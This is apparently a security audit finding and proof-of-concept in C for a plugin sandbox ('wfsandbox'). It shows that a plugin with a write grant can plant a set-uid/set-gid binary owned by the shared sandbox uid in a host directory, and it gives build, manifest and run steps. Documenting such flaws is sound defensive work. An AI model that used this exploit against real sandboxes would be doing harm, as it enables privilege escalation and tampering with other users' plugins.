// Finding: fchmod is allowed with any mode, so a plugin with a write grant can leave a
// set-uid/set-gid executable owned by the sandbox identity (200000:200000) in a HOST
// directory. Whoever runs it on the host becomes uid 200000, the uid of every sandbox:
// it may then signal (kill) every running plugin of every run, and rewrite every file
// any plugin wrote through a grant. The nosuid flag of the bind inside the sandbox does not
// exist on the host path.
//
// Build: gcc -static -O1 -o suid setuid_in_write_grant.c   (native entry point "suid")
// policy:   {"sandbox":{"allowed_host_paths":[{"path":"/srv/out","access":"read_write"}]}}
// manifest: {"name":"wg","version":"1.0.0","entry_point":"suid","permissions":{"system":
//            {"filesystem":{"enabled":true,"temp_only":false,"write":[{"path":"/srv/out","inside":"/out"}]}}}}
// Run: wfsandbox run DIR/manifest.json --policy policy.json; ls -ln /srv/out  ->  -rwsr-sr-x 200000 200000 tool
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>
int main(void) {
    int in = open("/plugin/suid", O_RDONLY), out = open("/out/tool", O_CREAT | O_WRONLY | O_TRUNC, 0755);
    char b[65536];
    ssize_t n;
    while ((n = read(in, b, sizeof b)) > 0) write(out, b, n);
    printf("fchmod(06755) = %d\n", fchmod(out, 06755));
    return 0;
}
